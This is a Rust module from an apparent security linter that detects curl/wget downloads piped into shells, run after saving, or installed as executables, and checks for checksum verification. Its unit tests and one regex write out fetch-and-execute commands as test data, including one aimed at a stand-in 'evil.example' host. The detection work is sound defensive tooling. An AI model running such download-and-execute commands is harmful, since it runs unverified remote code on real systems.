//! Downloads in shell commands (`curl`, `wget`) and what happens to them next: piped into a shell,
//! saved and run, or made executable / put on the PATH. Read-only; `crate::rules` makes findings.

use std::collections::HashSet;
use std::sync::LazyLock;

use regex::Regex;

use crate::packages::url_host;
use crate::shell::{Pipeline, Word, base_name, program_words};

/// One `curl`/`wget` fetch of a URL.
#[derive(Debug, Clone)]
pub struct Download<'w> {
    pub url_word: &'w Word,
    pub url: String,
    pub host: Option<String>,
    /// The file it writes; `None` when it writes to stdout.
    pub target: Option<String>,
    /// `curl -k` / `--insecure` or `wget --no-check-certificate`.
    pub insecure: Option<&'w Word>,
}

/// What a download is used for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Use {
    /// `curl … | sh`: the interpreter it is piped into.
    PipedToShell(String),
    /// `curl -o x … && sh x`.
    SavedThenRun(String),
    /// Made executable, installed into a `bin` directory, or installed as a `.deb`.
    Binary,
}

#[derive(Debug, Clone)]
pub struct DownloadUse<'w> {
    pub download: Download<'w>,
    pub used: Use,
    /// The word that uses the download (for the finding's line when the fetch itself is unchanged).
    pub user: &'w Word,
    /// Some `sha256sum -c` / `gpg --verify` runs in the same instruction.
    pub checksum_verified: bool,
}

/// Later commands are compared with at most this many of the most recent downloads in the same
/// instruction: real instructions fetch a handful of files, and the bound keeps a pathological
/// instruction with thousands of fetches linear.
pub const MAX_FOLLOWED_DOWNLOADS: usize = 64;

impl Use {
    fn kind(&self) -> u8 {
        match self {
            Use::PipedToShell(_) => 0,
            Use::SavedThenRun(_) => 1,
            Use::Binary => 2,
        }
    }
}

/// Programs that execute a script they are given on stdin or as their first argument.
fn is_interpreter(program: &str) -> bool {
    matches!(
        program,
        "sh" | "bash"
            | "zsh"
            | "dash"
            | "ksh"
            | "ash"
            | "mksh"
            | "fish"
            | "python"
            | "python2"
            | "python3"
            | "perl"
            | "ruby"
            | "node"
            | "php"
            | "pwsh"
            | "source"
            | "."
    ) || program.strip_prefix("python3.").is_some_and(|v| v.bytes().all(|b| b.is_ascii_digit()))
}

/// Every fetch in `pipelines` (one instruction or script line) and every use of one.
pub fn analyse<'w>(pipelines: &'w [Pipeline]) -> (Vec<Download<'w>>, Vec<DownloadUse<'w>>) {
    let checksum_verified = pipelines.iter().flatten().any(|command| verifies_checksum(program_words(command)));
    let mut downloads: Vec<Download<'w>> = Vec::new();
    let mut uses = Vec::new();
    // (offset of the URL word, kind of use) already reported, so each download is reported once per use.
    let mut reported: HashSet<(usize, u8)> = HashSet::new();
    let mut report = |found: DownloadUse<'w>, uses: &mut Vec<DownloadUse<'w>>| {
        if reported.insert((found.download.url_word.start, found.used.kind())) {
            uses.push(found);
        }
    };
    for pipeline in pipelines {
        for (position, command) in pipeline.iter().enumerate() {
            if let Some(fetched) = download(command) {
                if fetched.target.is_none() {
                    if let Some((used, user)) = piped_use(&pipeline[position + 1..]) {
                        report(DownloadUse { download: fetched.clone(), used, user, checksum_verified }, &mut uses);
                    }
                } else if fetched.target.as_deref().is_some_and(in_bin_dir) {
                    let user = fetched.url_word;
                    report(
                        DownloadUse { download: fetched.clone(), used: Use::Binary, user, checksum_verified },
                        &mut uses,
                    );
                }
                downloads.push(fetched);
                continue;
            }
            let followed = downloads.len().saturating_sub(MAX_FOLLOWED_DOWNLOADS);
            for earlier in &downloads[followed..] {
                let Some(target) = earlier.target.as_deref() else { continue };
                if let Some((used, user)) = later_use(command, target) {
                    report(DownloadUse { download: earlier.clone(), used, user, checksum_verified }, &mut uses);
                }
            }
        }
    }
    (downloads, uses)
}

fn verifies_checksum(words: &[Word]) -> bool {
    let Some(first) = words.first() else { return false };
    let program = base_name(&first.text);
    let checks = words.iter().any(|w| w.text == "-c" || w.text == "--check" || w.text == "--verify");
    (matches!(program, "sha256sum" | "sha512sum" | "sha384sum" | "shasum" | "b2sum" | "gpg" | "gpgv" | "cosign")
        && checks)
        || program == "gpgv"
}

/// A command later in the same pipeline that runs stdin (`| sh`) or unpacks it into a `bin` dir.
fn piped_use(later: &[Vec<Word>]) -> Option<(Use, &Word)> {
    for command in later {
        let words = program_words(command);
        let Some(first) = words.first() else { continue };
        let program = base_name(&first.text);
        if is_interpreter(program) {
            return Some((Use::PipedToShell(program.to_string()), first));
        }
        if program == "tar" && extracts_into_bin(words) {
            return Some((Use::Binary, first));
        }
    }
    None
}

/// A command that uses the file `target`: runs it, makes it executable, installs it.
fn later_use<'w>(command: &'w [Word], target: &str) -> Option<(Use, &'w Word)> {
    let words = program_words(command);
    let first = words.first()?;
    let program = base_name(&first.text);
    let args = &words[1..];
    let names_target = |w: &&Word| same_file(&w.text, target);
    if is_interpreter(program) {
        let script = args.iter().find(|w| !w.text.starts_with('-'))?;
        return same_file(&script.text, target).then(|| (Use::SavedThenRun(program.to_string()), first));
    }
    if same_file(&first.text, target) {
        // Running the downloaded file directly (`./installer`).
        return Some((Use::SavedThenRun(base_name(target).to_string()), first));
    }
    let mentioned = args.iter().find(names_target)?;
    let binary = match program {
        "chmod" => args.iter().any(|w| mode_is_executable(&w.text)),
        "install" => !args.iter().any(|w| w.text == "-d" || w.text == "--directory"),
        "mv" | "cp" | "ln" => args.last().is_some_and(|w| in_bin_dir(&w.text)),
        "dpkg" => args.iter().any(|w| w.text == "-i" || w.text == "--install"),
        "apt" | "apt-get" => args.iter().any(|w| w.text == "install"),
        "tar" => extracts_into_bin(words),
        "unzip" => args.windows(2).any(|pair| pair[0].text == "-d" && in_bin_dir(&pair[1].text)),
        _ => false,
    };
    binary.then_some((Use::Binary, mentioned))
}

fn extracts_into_bin(words: &[Word]) -> bool {
    words.windows(2).any(|pair| matches!(pair[0].text.as_str(), "-C" | "--directory") && in_bin_dir(&pair[1].text))
        || words.iter().any(|w| w.text.strip_prefix("--directory=").is_some_and(in_bin_dir))
}

/// Same path, or the same file name when one side is relative.
fn same_file(word: &str, target: &str) -> bool {
    if word == target {
        return true;
    }
    let (a, b) = (base_name(word), base_name(target));
    !a.is_empty() && a == b && (!word.starts_with('/') || !target.starts_with('/'))
}

/// A path inside (or naming) a `bin`/`sbin` directory: `/usr/local/bin/x`, `~/.local/bin`.
pub fn in_bin_dir(path: &str) -> bool {
    path.split('/').any(|part| part == "bin" || part == "sbin")
}

/// An octal or symbolic `chmod` mode that sets an execute bit (`0755`, `+x`, `u+rwx`).
pub fn mode_is_executable(mode: &str) -> bool {
    if !mode.is_empty() && mode.bytes().all(|b| (b'0'..=b'7').contains(&b)) {
        return mode.bytes().rev().take(3).any(|b| (b - b'0') & 1 == 1);
    }
    mode.split(',')
        .any(|clause| clause.contains(['+', '=']) && clause.split(['+', '=']).nth(1).is_some_and(|p| p.contains('x')))
}

/// Parses a `curl` or `wget` command.
pub fn download(command: &[Word]) -> Option<Download<'_>> {
    let words = program_words(command);
    let program = base_name(&words.first()?.text);
    match program {
        "curl" => parse_fetch(&words[1..], CURL),
        "wget" => parse_fetch(&words[1..], WGET),
        _ => None,
    }
}

/// How one fetch tool spells its options.
struct FetchFlags {
    /// Short options that take a value.
    short_values: &'static str,
    /// Long options that take a value (when not written `--opt=value`).
    long_values: &'static [&'static str],
    output: (&'static str, char),
    remote_name: Option<(&'static str, char)>,
    directory: (&'static str, Option<char>),
    insecure: (&'static str, Option<char>),
    /// Writes to a file named after the URL unless told otherwise (wget).
    saves_by_default: bool,
}

const CURL: FetchFlags = FetchFlags {
    short_values: "AbcCdDeEFHKmoPQrTuUwxXyYz",
    long_values: &[
        "--output",
        "--output-dir",
        "--header",
        "--data",
        "--data-raw",
        "--data-binary",
        "--data-urlencode",
        "--user",
        "--user-agent",
        "--referer",
        "--request",
        "--write-out",
        "--upload-file",
        "--proxy",
        "--range",
        "--max-time",
        "--connect-timeout",
        "--retry",
        "--retry-delay",
        "--retry-max-time",
        "--cookie",
        "--cookie-jar",
        "--config",
        "--cert",
        "--cacert",
        "--key",
        "--form",
        "--url",
        "--proto",
        "--proto-redir",
        "--limit-rate",
        "--dump-header",
        "--trace",
        "--trace-ascii",
        "--stderr",
        "--interface",
        "--resolve",
        "--connect-to",
        "--ciphers",
        "--tls-max",
    ],
    output: ("--output", 'o'),
    remote_name: Some(("--remote-name", 'O')),
    directory: ("--output-dir", None),
    insecure: ("--insecure", Some('k')),
    saves_by_default: false,
};

const WGET: FetchFlags = FetchFlags {
    short_values: "OPoaieTtwUQBlARDXI",
    long_values: &[
        "--output-document",
        "--directory-prefix",
        "--output-file",
        "--append-output",
        "--input-file",
        "--execute",
        "--tries",
        "--timeout",
        "--wait",
        "--user-agent",
        "--header",
        "--user",
        "--password",
        "--post-data",
    ],
    output: ("--output-document", 'O'),
    remote_name: None,
    directory: ("--directory-prefix", Some('P')),
    // `--no-check-certificate` is reported by the text rules, which also see it in `.wgetrc` files.
    insecure: ("", None),
    saves_by_default: true,
};

fn parse_fetch<'w>(args: &'w [Word], flags: FetchFlags) -> Option<Download<'w>> {
    let mut url_word: Option<&Word> = None;
    let mut output: Option<String> = None;
    let mut remote_name = flags.saves_by_default;
    let mut directory: Option<String> = None;
    let mut insecure = None;
    let mut index = 0;
    let mut options_done = false;
    while index < args.len() {
        let word = &args[index];
        let text = word.text.as_str();
        index += 1;
        if options_done || !text.starts_with('-') || text == "-" {
            if text.contains("://") && url_word.is_none() {
                url_word = Some(word);
            }
            continue;
        }
        if text == "--" {
            options_done = true;
            continue;
        }
        if let Some(long) = text.strip_prefix("--") {
            let (name, inline) = match long.split_once('=') {
                Some((name, value)) => (format!("--{name}"), Some(value.to_string())),
                None => (text.to_string(), None),
            };
            let takes_value = flags.long_values.contains(&name.as_str()) || name == "--url";
            let value = match inline {
                Some(value) => Some(value),
                None if takes_value => {
                    index += 1;
                    args.get(index - 1).map(|w| w.text.clone())
                }
                None => None,
            };
            if name == flags.output.0 {
                output = value;
            } else if name == flags.directory.0 {
                directory = value;
            } else if name == flags.insecure.0 {
                insecure = Some(word);
            } else if flags.remote_name.is_some_and(|(long, _)| long == name) {
                remote_name = true;
            } else if name == "--url" && url_word.is_none() {
                url_word = args.get(index - 1);
            }
            continue;
        }
        // A cluster of short options: `-fsSLo file`, `-qO-`.
        for (offset, ch) in text[1..].char_indices() {
            if flags.insecure.1 == Some(ch) {
                insecure = Some(word);
            }
            if flags.remote_name.is_some_and(|(_, short)| short == ch) {
                remote_name = true;
            }
            if flags.short_values.contains(ch) {
                let attached = &text[1 + offset + ch.len_utf8()..];
                let value = if attached.is_empty() {
                    index += 1;
                    args.get(index - 1).map(|w| w.text.clone())
                } else {
                    Some(attached.to_string())
                };
                if ch == flags.output.1 {
                    output = value;
                } else if flags.directory.1 == Some(ch) {
                    directory = value;
                }
                break;
            }
        }
    }
    let url_word = url_word?;
    let url = url_word.text.clone();
    let target = match output {
        Some(path) if path == "-" || path == "/dev/stdout" => None,
        Some(path) => Some(path),
        None if remote_name => {
            let path = url.split(['?', '#']).next().unwrap_or(&url);
            let name =
                path.rsplit('/').next().filter(|n| !n.is_empty() && !path.ends_with("://")).unwrap_or("index.html");
            Some(name.to_string())
        }
        None => None,
    };
    let target = target.map(|file| match directory {
        Some(dir) if !file.starts_with('/') => format!("{}/{file}", dir.trim_end_matches('/')),
        _ => file,
    });
    Some(Download { host: url_host(&url), url, url_word, target, insecure })
}

/// `bash <(curl …)`, `sh -c "$(curl …)"`, `eval "$(wget -qO- …)"`, `. <(curl …)`: a download run by
/// a shell through process or command substitution. Group 1 is the URL.
pub static SUBSTITUTION_PIPE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?:^|[\s;&|(])(?:(?:ba|z|da|k)?sh|source|eval|\.|python3?|perl|ruby|node)\s+(?:-\S+\s+)*["']?[<$]\(\s*(?:sudo\s+)?(?:curl|wget)\s[^)]*?((?:https?|ftp)://[^\s"')]+)"#,
    )
    .expect("regex compiles")
});

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell::pipelines;

    fn uses(text: &str) -> Vec<(Use, Option<String>)> {
        let parsed = pipelines(text);
        let (_, uses) = analyse(&parsed);
        uses.into_iter().map(|u| (u.used, u.download.host)).collect()
    }

    #[test]
    fn pipe_into_a_shell() {
        assert_eq!(
            uses("curl -fsSL https://get.example.com/install.sh | sudo -E bash -"),
            vec![(Use::PipedToShell("bash".into()), Some("get.example.com".into()))]
        );
        assert_eq!(
            uses("wget -qO- https://x.example/i | sh"),
            vec![(Use::PipedToShell("sh".into()), Some("x.example".into()))]
        );
        assert!(uses("curl -fsSL https://deb.nodesource.com/k.key | gpg --dearmor -o /k.gpg").is_empty());
    }

    #[test]
    fn saved_then_run_or_installed() {
        assert_eq!(
            uses("curl -o /tmp/i.sh https://e.example/i.sh && bash /tmp/i.sh")[0].0,
            Use::SavedThenRun("bash".into())
        );
        assert_eq!(uses("wget https://e.example/tool && chmod +x tool")[0].0, Use::Binary);
        assert_eq!(uses("curl -fsSLo /usr/local/bin/tool https://e.example/tool")[0].0, Use::Binary);
        let hadolint = "curl -fsSL -o /tmp/hadolint \"https://github.com/hadolint/hadolint/releases/download/v2.12.0/hadolint-Linux-x86_64\" && echo \"x  /tmp/hadolint\" | sha256sum -c - && install -m 0755 /tmp/hadolint /usr/local/bin/hadolint";
        let parsed = pipelines(hadolint);
        let (_, found) = analyse(&parsed);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].used, Use::Binary);
        assert!(found[0].checksum_verified);
        assert_eq!(found[0].download.host.as_deref(), Some("github.com"));
        assert!(uses("curl -o /tmp/data.json https://e.example/d && chmod 0644 /tmp/data.json").is_empty());
        assert!(uses("curl -O https://e.example/a.tar.gz && install -d -m 0755 /opt/a").is_empty());
    }

    #[test]
    fn substitution() {
        let caps = SUBSTITUTION_PIPE.captures("bash <(curl -fsSL https://evil.example/x.sh)").unwrap();
        assert_eq!(&caps[1], "https://evil.example/x.sh");
        assert!(SUBSTITUTION_PIPE.is_match("sh -c \"$(wget -qO- https://e.example/i)\""));
        assert!(!SUBSTITUTION_PIPE.is_match("echo \"$(curl -s https://e.example/v)\""));
    }

    #[test]
    fn modes() {
        assert!(mode_is_executable("0755"));
        assert!(mode_is_executable("+x"));
        assert!(mode_is_executable("u+rwx,go+rx"));
        assert!(!mode_is_executable("0644"));
        assert!(!mode_is_executable("go-w"));
    }
}
